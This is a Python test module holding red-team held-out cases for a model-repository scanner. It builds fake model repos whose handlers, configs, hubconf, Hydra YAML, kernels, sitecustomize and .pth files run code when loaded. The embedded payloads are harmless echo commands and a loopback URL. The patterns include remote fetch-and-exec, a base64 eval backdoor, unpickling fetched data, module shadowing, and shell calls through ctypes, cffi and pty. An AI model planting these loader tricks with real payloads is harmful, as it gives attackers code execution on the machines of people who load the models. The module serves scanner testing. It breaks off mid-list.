"""Held-out loader cases for issue 23 ("the loader model"), written by a red team from the runtimes'
own source, without reading hfvet's scanners, loader map or policy rules.

Each hostile case is a repo a real runtime would follow into attacker code: files the runtime runs
without any ``auto_map`` (Endpoints handlers, diffusers custom components, sentence-transformers
modules, ``custom_generate``, ``hubconf.py``, Hydra ``_target_``, Hub kernels, start-up hooks,
plugin entry points), loads that carry the user's ``trust_remote_code`` to another repo, and sinks
inside remote code a denylist may not know. Each benign case is a vendor shape that must not be
rejected. ``why=`` names the loader behaviour and the source it was read from (file, function,
version of the snapshot read).

Payloads are harmless strings (``echo hfvet-heldout``, ``http://127.0.0.1:9/x``); every file is
built here as text, the only binary is a two-by-two safetensors of zeros and one tar of text files.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
from collections.abc import Callable, Mapping, Sequence

from tests.corpus.registry import Case, register_all

HOSTILE = "loader-heldout"
BENIGN = "loader-heldout-benign"

CMD = "echo hfvet-heldout"
URL = "http://127.0.0.1:9/x"
OTHER = "some-other-user"  # an org that is neither the repo's own nor a vendor's

# Runtime snapshots read for these cases (the tool's `fetch`, newest stored snapshot, or the code index):
TF = "transformers (src/transformers, code index, v4.5x-5.x)"
DIFFUSERS = "diffusers 0.40.0.dev0"
ST = "sentence-transformers 5.2.0.dev0"
PEFT = "peft 0.20.1.dev0"
TOOLKIT = "huggingface-inference-toolkit 0.5.5"
KERNELS = "kernels 0.17.0.dev0"
NEMO = "NeMo 2.6.0"
VLLM = "vllm (vllm/, code index)"
SGLANG = "sglang (python/sglang/srt, code index)"

Value = str | bytes | Mapping[str, object] | Sequence[object]


def _bytes(value: Value) -> bytes:
    if isinstance(value, bytes):
        return value
    if isinstance(value, str):
        return value.encode()
    return (json.dumps(value, indent=2) + "\n").encode()


def safetensors() -> bytes:
    """A real, tiny safetensors file: one F32 2x2 tensor of zeros."""
    header = {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + bytes(16)


def repo(files: Mapping[str, Value], weights: str | None = "model.safetensors") -> Callable[[], dict[str, bytes]]:
    def build() -> dict[str, bytes]:
        out = {path: _bytes(value) for path, value in files.items()}
        if weights is not None:
            out.setdefault(weights, safetensors())
        return out

    return build


def card(title: str, body: str, front: str = "library_name: transformers\nlicense: apache-2.0") -> str:
    return f"---\n{front}\n---\n\n# {title}\n\n{body.strip()}\n"


BERT = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 2, "num_hidden_layers": 1,
        "num_attention_heads": 1, "intermediate_size": 4, "vocab_size": 8, "max_position_embeddings": 8}
LLAMA = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 2, "num_hidden_layers": 1,
         "num_attention_heads": 1, "intermediate_size": 4, "vocab_size": 8, "torch_dtype": "bfloat16"}

# ---------------------------------------------------------------------------------------------
# Class 1: code a runtime executes without any auto_map
# ---------------------------------------------------------------------------------------------

ENDPOINT_README = card("Sentiment endpoint", """
Deploy on Inference Endpoints: the container loads `handler.py` and calls `EndpointHandler(path)`.
""")

HANDLER_INIT_SHELL = '''\
import subprocess
from typing import Any

from transformers import pipeline


class EndpointHandler:
    def __init__(self, path: str = "") -> None:
        # "warm the cache"
        subprocess.run("echo hfvet-heldout", shell=True, check=False)
        self.pipe = pipeline("text-classification", model=path)

    def __call__(self, data: dict[str, Any]) -> list[dict[str, Any]]:
        return self.pipe(data["inputs"])
'''

HANDLER_IMPORTS_HELPER = '''\
from typing import Any

from transformers import pipeline

from preprocessing import normalise


class EndpointHandler:
    def __init__(self, path: str = "") -> None:
        self.pipe = pipeline("text-classification", model=path)

    def __call__(self, data: dict[str, Any]) -> list[dict[str, Any]]:
        return self.pipe(normalise(data["inputs"]))
'''

HELPER_MODULE_LEVEL = '''\
import os
import unicodedata

os.system("echo hfvet-heldout")


def normalise(text: str) -> str:
    return unicodedata.normalize("NFC", text)
'''

LEGACY_PIPELINE = '''\
import urllib.request
from typing import Any


class PreTrainedPipeline:
    def __init__(self, path: str = "") -> None:
        code = urllib.request.urlopen("http://127.0.0.1:9/x").read()
        exec(compile(code, "warmup", "exec"))
        self.path = path

    def __call__(self, inputs: str) -> list[dict[str, Any]]:
        return [{"label": "POSITIVE", "score": 1.0}]
'''

HANDLER_CALL_BACKDOOR = '''\
import base64
from typing import Any

from transformers import pipeline


class EndpointHandler:
    def __init__(self, path: str = "") -> None:
        self.pipe = pipeline("text-classification", model=path)

    def __call__(self, data: dict[str, Any]) -> Any:
        debug = data.get("parameters", {}).get("debug")
        if debug:
            return eval(base64.b64decode(debug).decode())
        return self.pipe(data["inputs"])
'''

HANDLER_PLAIN = '''\
from typing import Any

from transformers import pipeline


class EndpointHandler:
    def __init__(self, path: str = "") -> None:
        self.pipe = pipeline("text-classification", model=path, device_map="auto")

    def __call__(self, data: dict[str, Any]) -> list[dict[str, Any]]:
        inputs = data.pop("inputs", data)
        parameters = data.pop("parameters", {}) or {}
        return self.pipe(inputs, **parameters)
'''

SHADOW_ACCELERATE = '''\
"""Shadows the real `accelerate`: the toolkit put the model folder first on sys.path."""
import os

os.system("echo hfvet-heldout")
__version__ = "1.0.0"
'''

TOOLKIT_LOAD = (f"{TOOLKIT} src/huggingface_inference_toolkit/utils.py "
                "check_and_register_custom_pipeline_from_directory: exec_module(handler.py) then "
                "handler.EndpointHandler(model_dir), after sys.path.insert(0, model_dir)")

# ---- diffusers ----

UNET_CUSTOM = '''\
import os

import torch
from diffusers import ModelMixin, ConfigMixin

os.system("echo hfvet-heldout")


class MyUNet(ModelMixin, ConfigMixin):
    def __init__(self, channels: int = 4) -> None:
        super().__init__()
        self.conv = torch.nn.Conv2d(channels, channels, 3, padding=1)

    def forward(self, sample, timestep, encoder_hidden_states=None):
        return self.conv(sample)
'''

UNET_PLAIN = '''\
import torch
from diffusers import ConfigMixin, ModelMixin
from diffusers.configuration_utils import register_to_config


class TinyUNet(ModelMixin, ConfigMixin):
    @register_to_config
    def __init__(self, channels: int = 4, hidden: int = 32) -> None:
        super().__init__()
        self.inp = torch.nn.Conv2d(channels, hidden, 3, padding=1)
        self.act = torch.nn.SiLU()
        self.out = torch.nn.Conv2d(hidden, channels, 3, padding=1)

    def forward(self, sample, timestep, encoder_hidden_states=None, return_dict=True):
        return (self.out(self.act(self.inp(sample))),)
'''

CUSTOM_PIPELINE = '''\
import subprocess

from diffusers import DiffusionPipeline


class MyPipeline(DiffusionPipeline):
    def __init__(self, unet, scheduler) -> None:
        super().__init__()
        subprocess.Popen(["sh", "-c", "echo hfvet-heldout"])
        self.register_modules(unet=unet, scheduler=scheduler)
'''

MODULAR_BLOCKS = '''\
from diffusers.modular_pipelines import ModularPipelineBlocks
import subprocess

subprocess.check_output("echo hfvet-heldout", shell=True)


class MyBlocks(ModularPipelineBlocks):
    pass
'''

SD_INDEX = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0",
            "scheduler": ["diffusers", "DDIMScheduler"], "text_encoder": ["transformers", "CLIPTextModel"],
            "tokenizer": ["transformers", "CLIPTokenizer"], "unet": ["diffusers", "UNet2DConditionModel"],
            "vae": ["diffusers", "AutoencoderKL"]}

# ---- sentence-transformers ----

ST_CUSTOM_MODULE = '''\
import os

import torch
from sentence_transformers.models import Module

os.system("echo hfvet-heldout")


class Pooler(Module):
    config_keys: list[str] = []

    def forward(self, features: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
        features["sentence_embedding"] = features["token_embeddings"].mean(1)
        return features
'''

ST_MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
              {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
              {"idx": 2, "name": "2", "path": "2_Normalize", "type": "sentence_transformers.models.Normalize"}]
POOLING = {"word_embedding_dimension": 2, "pooling_mode_cls_token": False, "pooling_mode_mean_tokens": True,
           "pooling_mode_max_tokens": False, "pooling_mode_mean_sqrt_len_tokens": False}
ST_CONFIG = {"__version__": {"sentence_transformers": "3.0.1", "transformers": "4.44.2", "pytorch": "2.4.0"},
             "prompts": {}, "default_prompt_name": None, "similarity_fn_name": "cosine"}


def st_repo(sbert: Mapping[str, object], modules: Sequence[object], extra: Mapping[str, Value] | None = None,
            readme: str | None = None) -> Callable[[], dict[str, bytes]]:
    files: dict[str, Value] = {"config.json": BERT, "modules.json": modules, "sentence_bert_config.json": sbert,
                               "config_sentence_transformers.json": ST_CONFIG, "1_Pooling/config.json": POOLING,
                               "README.md": readme or card("Sentence embeddings", """
```python
from sentence_transformers import SentenceTransformer
model = SentenceTransformer("this-org/this-model")
```
""", front="library_name: sentence-transformers\npipeline_tag: sentence-similarity")}
    files.update(extra or {})
    return repo(files)


ST_LOAD = (f"{ST} sentence_transformers/SentenceTransformer.py SentenceTransformer._load_sbert_model -> "
           "_load_module_class_from_ref(modules.json 'type')")

# ---- transformers custom_generate / custom_pipelines ----

CUSTOM_GENERATE = '''\
import torch


def generate(model, input_ids, generation_config=None, **kwargs):
    __import__("os").system("echo hfvet-heldout")
    return model.generate(input_ids, generation_config=generation_config, custom_generate=None, **kwargs)
'''

CUSTOM_GENERATE_PLAIN = '''\
import torch


def generate(model, input_ids, generation_config=None, left_padding=None, **kwargs):
    generation_config = generation_config or model.generation_config
    max_new = generation_config.max_new_tokens or 20
    cur = input_ids
    for _ in range(max_new):
        logits = model(cur).logits[:, -1, :]
        nxt = torch.argmax(logits, dim=-1, keepdim=True)
        cur = torch.cat([cur, nxt], dim=-1)
        if generation_config.eos_token_id is not None and (nxt == generation_config.eos_token_id).all():
            break
    return cur
'''

CUSTOM_PIPE = '''\
import socket

from transformers import Pipeline


class ReviewPipeline(Pipeline):
    def _sanitize_parameters(self, **kwargs):
        return {}, {}, {}

    def preprocess(self, text):
        with socket.create_connection(("127.0.0.1", 9)) as conn:
            conn.sendall(text.encode())
        return self.tokenizer(text, return_tensors="pt")

    def _forward(self, model_inputs):
        return self.model(**model_inputs)

    def postprocess(self, outputs):
        return outputs.logits.softmax(-1).tolist()


import os
os.system("echo hfvet-heldout")
'''

# ---- torch.hub ----

HUBCONF_IMPORT_TIME = '''\
dependencies = ["torch"]

import os
import torch

os.system("echo hfvet-heldout")


def resnet_tiny(pretrained: bool = False) -> torch.nn.Module:
    return torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.ReLU())
'''

HUBCONF_SIBLING = '''\
dependencies = ["torch"]

from model_def import build


def tiny(pretrained: bool = False):
    return build(pretrained)
'''

MODEL_DEF_FETCH = '''\
import pickle
import urllib.request

import torch


def build(pretrained: bool = False) -> torch.nn.Module:
    net = torch.nn.Sequential(torch.nn.Linear(2, 2))
    if pretrained:
        blob = urllib.request.urlopen("http://127.0.0.1:9/x").read()
        net.load_state_dict(pickle.loads(blob))
    return net
'''

HUBCONF_PLAIN = '''\
dependencies = ["torch", "safetensors"]

import os

import torch
from safetensors.torch import load_file


def tiny(pretrained: bool = False) -> torch.nn.Module:
    """A two-by-two linear layer; weights from this repo's model.safetensors."""
    net = torch.nn.Linear(2, 2, bias=False)
    if pretrained:
        state = load_file(os.path.join(os.path.dirname(__file__), "model.safetensors"))
        net.weight.data.copy_(state["w"])
    return net
'''

HUB_LOAD = ("pytorch torch/hub.py load(source='local') -> _load_local: sys.path.insert(0, hubconf_dir); "
            "_import_module('hubconf', hubconf.py); then the entrypoint is called (torch 2.x)")

# ---- NeMo / Hydra ----

NEMO_HOSTILE_YAML = f'''\
name: Conformer-CTC-BPE
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
model:
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: 16000
  tokenizer:
    dir: tokenizer
    type: bpe
  callbacks:
    - _target_: subprocess.Popen
      _args_:
        - ["sh", "-c", "{CMD}"]
  optim:
    name: adamw
    lr: 0.001
'''

NEMO_PLAIN_YAML = '''\
name: Conformer-CTC-BPE
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
  features: 80
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
  d_model: 64
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: 64
  num_classes: 128
optim:
  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
    warmup_steps: 100
'''


def nemo_archive(config: str) -> bytes:
    """A `.nemo` file is a tar: model_config.yaml beside the weights (text only here)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in (("./model_config.yaml", config.encode()), ("./tokenizer/vocab.txt", b"a\nb\n")):
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


NEMO_LOAD = (f"{NEMO} nemo/core/classes/common.py Serialization.from_config_dict -> safe_instantiate -> "
             "hydra.utils.instantiate(_target_); the _target_ allowlist (ALLOWED_TARGET_PREFIXES) is new in 2.5/2.6, "
             "older NeMo and plain Hydra instantiate any importable callable")

# ---- kernels ----

KERNEL_VARIANT = "build/torch28-cxx11-cu128-x86_64-linux"
KERNEL_INIT_HOSTILE = '''\
import os

import torch

os.system("echo hfvet-heldout")


def rms_norm(x: torch.Tensor, weight: torch.Tensor, eps: float = 1e-6) -> torch.Tensor:
    return x * torch.rsqrt(x.pow(2).mean(-1, keepdim=True) + eps) * weight
'''

KERNEL_INIT_TRITON = '''\
import torch
import triton
import triton.language as tl


@triton.jit
def _add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), mask=mask)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    out = torch.empty_like(x)
    n = x.numel()
    _add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
    return out
'''

KERNEL_METADATA = {"id": "_heldout_kernel_0001", "name": "heldout_kernel", "version": 1, "python-depends": []}
KERNELS_LOAD = (f"{KERNELS} kernels/src/kernels/importer.py _import_from_path: "
                "spec_from_file_location(build/<variant>/__init__.py).loader.exec_module (get_kernel)")

# ---- start-up hooks, plugins ----

SITECUSTOMIZE = '''\
import os

os.system("echo hfvet-heldout")
'''

VLLM_PLUGIN_PYPROJECT = '''\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "heldout-vllm-plugin"
version = "0.1.0"

[project.entry-points."vllm.general_plugins"]
heldout = "heldout_plugin:register"
'''

VLLM_PLUGIN_CODE = '''\
import subprocess


def register() -> None:
    from vllm import ModelRegistry

    subprocess.run(["sh", "-c", "echo hfvet-heldout"], check=False)
    ModelRegistry.register_model("HeldoutForCausalLM", "heldout_plugin.model:HeldoutForCausalLM")
'''

SETUP_PY = '''\
import os

from setuptools import setup

os.system("echo hfvet-heldout")
setup(name="heldout-kernels", version="0.1.0", py_modules=[])
'''

# ---- payloads in the functions a runtime calls (not at module level) ----

HUBCONF_ENTRYPOINT_BODY = '''\
dependencies = ["torch"]

import subprocess

import torch


def tiny(pretrained: bool = False) -> torch.nn.Module:
    subprocess.run(["sh", "-c", "echo hfvet-heldout"], check=False)
    return torch.nn.Linear(2, 2)
'''

UNET_INIT_BODY = UNET_PLAIN.replace(
    "        super().__init__()\n",
    "        super().__init__()\n        __import__(\"subprocess\").run([\"sh\", \"-c\", \"echo hfvet-heldout\"])\n",
    1,
)

ST_LOAD_BODY = '''\
import subprocess

import torch
from sentence_transformers.models import Module


class Pooler(Module):
    config_keys: list[str] = []

    @classmethod
    def load(cls, model_name_or_path: str, **kwargs) -> "Pooler":
        subprocess.run(["sh", "-c", "echo hfvet-heldout"], check=False)
        return cls()

    def forward(self, features: dict[str, torch.Tensor]) -> dict[str, torch.Tensor]:
        features["sentence_embedding"] = features["token_embeddings"].mean(1)
        return features
'''


# ---------------------------------------------------------------------------------------------
# Class 3: sinks inside remote code (the repo does carry auto_map; the sink is what is new)
# ---------------------------------------------------------------------------------------------

AUTO_MAP = {"AutoConfig": "configuration_heldout.HeldoutConfig",
            "AutoModelForCausalLM": "modeling_heldout.HeldoutForCausalLM"}

CONFIG_PLAIN = '''\
from transformers import PretrainedConfig


class HeldoutConfig(PretrainedConfig):
    model_type = "heldout"

    def __init__(self, hidden_size: int = 2, vocab_size: int = 8, **kwargs) -> None:
        self.hidden_size = hidden_size
        self.vocab_size = vocab_size
        super().__init__(**kwargs)
'''

MODELING_TEMPLATE = '''\
import torch
from transformers import PreTrainedModel

from .configuration_heldout import HeldoutConfig
{imports}

class HeldoutForCausalLM(PreTrainedModel):
    config_class = HeldoutConfig

    def __init__(self, config: HeldoutConfig) -> None:
        super().__init__(config)
        self.embed = torch.nn.Embedding(config.vocab_size, config.hidden_size)
        self.lm_head = torch.nn.Linear(config.hidden_size, config.vocab_size, bias=False)
{init}
    def forward(self, input_ids, **kwargs):
        return self.lm_head(self.embed(input_ids))
'''


def modeling(imports: str = "", init: str = "") -> str:
    return MODELING_TEMPLATE.format(imports=imports, init=init)


def remote_code_repo(modeling_py: str, config_py: str = CONFIG_PLAIN,
                     auto_map: Mapping[str, str] | None = None) -> Callable[[], dict[str, bytes]]:
    config = {**LLAMA, "architectures": ["HeldoutForCausalLM"], "model_type": "heldout",
              "auto_map": dict(auto_map or AUTO_MAP)}
    return repo({"config.json": config, "configuration_heldout.py": config_py, "modeling_heldout.py": modeling_py,
                 "README.md": card("Heldout LM", """
```python
from transformers import AutoModelForCausalLM
model = AutoModelForCausalLM.from_pretrained("this-org/heldout-lm", trust_remote_code=True)
```
""")})


SINK_CFFI = modeling("import cffi\n", '''\
        ffi = cffi.FFI()
        ffi.cdef("int system(const char *command);")
        ffi.dlopen(None).system(b"echo hfvet-heldout")
''')

SINK_NUMPY_CTYPESLIB = modeling("import numpy.ctypeslib\n", '''\
        libc = numpy.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
        libc.system(b"echo hfvet-heldout")
''')

SINK_TIMEIT = modeling("import timeit\n", '''\
        timeit.timeit(stmt="__import__('os').system('echo hfvet-heldout')", number=1)
''')

SINK_INTERPRETER = modeling("import code\n", '''\
        code.InteractiveInterpreter().runsource("__import__('os').system('echo hfvet-heldout')")
''')

SINK_PKGUTIL = modeling("import pkgutil\n", '''\
        pkgutil.resolve_name("os:system")("echo hfvet-heldout")
''')

SINK_POSIX_SPAWN = modeling("import os\n", '''\
        os.posix_spawnp("sh", ["sh", "-c", "echo hfvet-heldout"], dict(os.environ))
''')

SINK_PTY = modeling("import pty\n", '''\
        pty.spawn(["sh", "-c", "echo hfvet-heldout"])
''')

SINK_CTYPES_UTIL = modeling("import ctypes\nimport ctypes.util\n", '''\
        ctypes.CDLL(ctypes.util.find_library("c")).system(b"echo hfvet-heldout")
''')

CONFIG_MODULE_GETATTR = '''\
from transformers import PretrainedConfig


class _Base(PretrainedConfig):
    model_type = "heldout"


def __getattr__(name: str):
    # transformers' get_class_in_module does getattr(module, "HeldoutConfig"): this runs first
    if name == "HeldoutConfig":
        import subprocess
        subprocess.run(["sh", "-c", "echo hfvet-heldout"], check=False)
        return _Base
    raise AttributeError(name)
'''

CONFIG_REPR_OVERRIDE = '''\
from transformers import PretrainedConfig


class HeldoutConfig(PretrainedConfig):
    model_type = "heldout"

    def __init__(self, hidden_size: int = 2, vocab_size: int = 8, **kwargs) -> None:
        self.hidden_size = hidden_size
        self.vocab_size = vocab_size
        super().__init__(**kwargs)

    def to_dict(self):
        # PretrainedConfig.from_dict logs f"Model config {config}": __repr__ -> to_json_string -> to_dict
        import os
        os.system("echo hfvet-heldout")
        return super().to_dict()
'''

CONFIG_INIT_SUBCLASS = '''\
from transformers import PretrainedConfig


class _Registered(PretrainedConfig):
    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        __import__("subprocess").getoutput("echo hfvet-heldout")


class HeldoutConfig(_Registered):
    model_type = "heldout"
'''

GET_CLASS = (f"{TF} src/transformers/dynamic_module_utils.py get_class_from_dynamic_module -> "
             "get_class_in_module: module imported (exec_module) then getattr(module, class_name)")


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------


def _hostile(name: str, files: Callable[[], dict[str, bytes]], why: str) -> Case:
    return Case(HOSTILE, name, "hostile", files, why=why)


def _benign(name: str, files: Callable[[], dict[str, bytes]], why: str, vendor: str = "approve",
            reason: str | None = None) -> Case:
    assert vendor in ("approve", "review")
    return Case(BENIGN, name, "benign", files, why=why, vendor=vendor, reason=reason)  # type: ignore[arg-type]


CLASS1 = [
    _hostile("endpoints-handler-init-shell", repo({"config.json": BERT, "handler.py": HANDLER_INIT_SHELL,
                                                   "README.md": ENDPOINT_README}),
             f"Inference Endpoints runs EndpointHandler.__init__ at container start: {TOOLKIT_LOAD}."),
    _hostile("endpoints-handler-imports-sibling", repo({"config.json": BERT, "handler.py": HANDLER_IMPORTS_HELPER,
                                                        "preprocessing.py": HELPER_MODULE_LEVEL,
                                                        "README.md": ENDPOINT_README}),
             f"handler.py is clean but imports preprocessing.py from the repo root, which the toolkit put on "
             f"sys.path first; its module-level os.system runs on import: {TOOLKIT_LOAD}."),
    _hostile("endpoints-legacy-pipeline-py", repo({"config.json": BERT, "pipeline.py": LEGACY_PIPELINE,
                                                   "README.md": ENDPOINT_README}),
             f"With no handler.py the toolkit falls back to pipeline.py and runs PreTrainedPipeline(model_dir), "
             f"here fetching code from {URL} and exec-ing it: {TOOLKIT} utils.py "
             "check_and_register_custom_pipeline_from_directory (legacy_module branch)."),
    _hostile("endpoints-handler-call-eval-backdoor", repo({"config.json": BERT, "handler.py": HANDLER_CALL_BACKDOOR,
                                                           "README.md": ENDPOINT_README}),
             "EndpointHandler.__call__ evals a base64 request parameter: every request is remote code execution "
             f"in the endpoint: {TOOLKIT} handler.py HuggingFaceHandler.__call__ -> self.pipeline(inputs)."),
    _hostile("endpoints-requirements-fork-and-index", repo({
        "config.json": BERT, "handler.py": HANDLER_PLAIN, "README.md": ENDPOINT_README,
        "requirements.txt": f"--extra-index-url {URL}/simple\n"
                            f"git+https://github.com/{OTHER}/transformers@patched-loader#egg=transformers\n"
                            "accelerate==0.33.0\n"}),
             f"With a handler.py present the container pip-installs the repo's requirements.txt: {TOOLKIT} "
             "scripts/entrypoint.sh (huggingface-cli download requirements.txt; pip install -r). A fork from a "
             "personal GitHub and an extra index run setup code at install."),
    _hostile("endpoints-shadows-lazy-import", repo({"config.json": BERT, "handler.py": HANDLER_PLAIN,
                                                    "accelerate.py": SHADOW_ACCELERATE,
                                                    "README.md": ENDPOINT_README}),
             "handler.py is clean, but the toolkit does sys.path.insert(0, model_dir) before running it and "
             "pipeline(device_map='auto') makes transformers import accelerate lazily: the repo's accelerate.py "
             f"wins. {TOOLKIT_LOAD}."),
    _hostile("diffusers-custom-component", repo({
        "model_index.json": {**SD_INDEX, "unet": ["my_unet", "MyUNet"]},
        "unet/config.json": {"_class_name": "MyUNet", "channels": 4}, "unet/my_unet.py": UNET_CUSTOM,
        "README.md": card("Tiny SD", "```python\nDiffusionPipeline.from_pretrained('this/repo', "
                                     "trust_remote_code=True)\n```", front="library_name: diffusers")},
        weights="unet/diffusion_pytorch_model.safetensors"),
             f"model_index.json names a component module that is a file in the repo (no auto_map anywhere): "
             f"{DIFFUSERS} src/diffusers/pipelines/pipeline_loading_utils.py _get_custom_components_and_folders "
             "and get_class_obj_and_candidates -> get_class_from_dynamic_module(unet/my_unet.py)."),
    _hostile("diffusers-class-name-list-pipeline", repo({
        "model_index.json": {**SD_INDEX, "_class_name": ["pipeline", "MyPipeline"]},
        "pipeline.py": CUSTOM_PIPELINE,
        "README.md": card("Tiny SD", "```python\nDiffusionPipeline.from_pretrained('this/repo', "
                                     "trust_remote_code=True)\n```", front="library_name: diffusers")},
        weights="unet/diffusion_pytorch_model.safetensors"),
             "model_index.json `_class_name` as [module, class] makes the pipeline class itself repo code: "
             f"{DIFFUSERS} pipeline_loading_utils.py _resolve_custom_pipeline_and_cls and "
             "pipeline_utils.py DiffusionPipeline.download (custom_pipeline = _class_name[0])."),
    _hostile("diffusers-modular-blocks-automap", repo({
        "modular_config.json": {"_class_name": "MyBlocks", "_diffusers_version": "0.35.0",
                                "auto_map": {"ModularPipelineBlocks": "block.MyBlocks"}},
        "block.py": MODULAR_BLOCKS,
        "README.md": card("Blocks", "```python\nModularPipelineBlocks.from_pretrained('this/repo', "
                                    "trust_remote_code=True)\n```", front="library_name: diffusers")}, weights=None),
             "The auto_map lives in modular_config.json, not config.json: "
             f"{DIFFUSERS} src/diffusers/modular_pipelines/modular_pipeline.py ModularPipelineBlocks.from_pretrained "
             "-> get_class_from_dynamic_module(block.py)."),
    _hostile("st-modules-json-custom-module", st_repo(
        {"max_seq_length": 128, "do_lower_case": False},
        [ST_MODULES[0], {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_st.Pooler"}],
        {"custom_st.py": ST_CUSTOM_MODULE}),
             f"modules.json 'type' names a module file in the repo: {ST_LOAD} -> "
             "get_class_from_dynamic_module; for a local snapshot (os.path.exists) this runs even without "
             "trust_remote_code."),
    _hostile("transformers-custom-generate", repo({
        "config.json": LLAMA, "custom_generate/generate.py": CUSTOM_GENERATE,
        "custom_generate/requirements.txt": "torch\n",
        "README.md": card("Llama with custom decoding", "```python\nAutoModelForCausalLM.from_pretrained("
                                                        "'this/repo', trust_remote_code=True).generate(...)\n```",
                          front="library_name: transformers\ntags:\n- custom_generate")}),
             f"{TF} src/transformers/generation/utils.py GenerationMixin.load_custom_generate, called from "
             "PreTrainedModel.from_pretrained when trust_remote_code: custom_generate/generate.py replaces "
             "model.generate (no auto_map key)."),
    _hostile("transformers-custom-pipelines-config", repo({
        "config.json": {**BERT, "architectures": ["BertForSequenceClassification"],
                        "custom_pipelines": {"review-classification": {
                            "impl": "review_pipe.ReviewPipeline", "pt": ["AutoModelForSequenceClassification"],
                            "tf": [], "type": "text"}}},
        "review_pipe.py": CUSTOM_PIPE,
        "README.md": card("Review classifier", "```python\npipeline('review-classification', model='this/repo', "
                                               "trust_remote_code=True)\n```")}),
             f"config.json `custom_pipelines` (not auto_map): {TF} src/transformers/pipelines/__init__.py "
             "pipeline() -> get_class_from_dynamic_module(custom_tasks[task]['impl'])."),
    _hostile("hubconf-import-time", repo({"hubconf.py": HUBCONF_IMPORT_TIME, "README.md": card(
        "Tiny ResNet", "```python\ntorch.hub.load('path/to/snapshot', 'resnet_tiny', source='local')\n```",
        front="library_name: pytorch")}), f"{HUB_LOAD}: module-level os.system runs on import."),
    _hostile("hubconf-sibling-fetches-pickle", repo({"hubconf.py": HUBCONF_SIBLING, "model_def.py": MODEL_DEF_FETCH,
                                                     "README.md": card("Tiny", "```python\ntorch.hub.load("
                                                                       "'path/to/snapshot', 'tiny', source='local', "
                                                                       "pretrained=True)\n```",
                                                                       front="library_name: pytorch")}),
             f"{HUB_LOAD}: the entrypoint calls model_def.build, which unpickles bytes fetched from {URL}."),
    _hostile("hydra-target-yaml", repo({"model_config.yaml": NEMO_HOSTILE_YAML,
                                        "README.md": card("Conformer CTC", "```python\ncfg = OmegaConf.load("
                                                          "'model_config.yaml')\nhydra.utils.instantiate(cfg.model)"
                                                          "\n```", front="library_name: nemo")}),
             f"{NEMO_LOAD}: `_target_: subprocess.Popen` with `_args_` is a process spawn."),
    _hostile("nemo-archive-hydra-target", repo({"model.nemo": nemo_archive(NEMO_HOSTILE_YAML),
                                                "README.md": card("Conformer CTC", "```python\nASRModel.restore_from("
                                                                  "'model.nemo')\n```", front="library_name: nemo")},
                                               weights=None),
             f"{NEMO} nemo/core/connectors/save_restore_connector.py SaveRestoreConnector.restore_from untars "
             f"model_config.yaml and instantiates it: {NEMO_LOAD}."),
    _hostile("kernels-hub-kernel-init", repo({
        f"{KERNEL_VARIANT}/metadata.json": KERNEL_METADATA,
        f"{KERNEL_VARIANT}/heldout_kernel/__init__.py": KERNEL_INIT_HOSTILE,
        "README.md": card("RMSNorm kernel", "```python\nfrom kernels import get_kernel\n"
                                            "rms = get_kernel('this/repo')\n```", front="library_name: kernels\n"
                                                                                         "tags:\n- kernel")},
        weights=None), f"{KERNELS_LOAD}."),
    _hostile("startup-sitecustomize", repo({"config.json": LLAMA, "sitecustomize.py": SITECUSTOMIZE,
                                            "README.md": card("LM", "Run with `PYTHONPATH=$PWD python serve.py`.")}),
             "CPython Lib/site.py execsitecustomize(): `import sitecustomize` from sys.path at every interpreter "
             "start, and the card puts the snapshot on PYTHONPATH (so does the Endpoints toolkit's sys.path)."),
    _hostile("startup-usercustomize", repo({"config.json": LLAMA, "usercustomize.py": SITECUSTOMIZE,
                                            "README.md": card("LM", "Run with `PYTHONPATH=$PWD python serve.py`.")}),
             "CPython Lib/site.py execusercustomize(): `import usercustomize` at start when ENABLE_USER_SITE."),
    _hostile("startup-pth-import-line", repo({
        "config.json": LLAMA, "heldout_fastpath.pth": f"import os; os.system('{CMD}')\n",
        "README.md": card("LM", "Install the fast path: `cp *.pth $(python -m site --user-site)/`.")}),
             "CPython Lib/site.py addpackage(): a .pth line starting with `import` is exec()'d at every start."),
    _hostile("vllm-general-plugin-entry-point", repo({
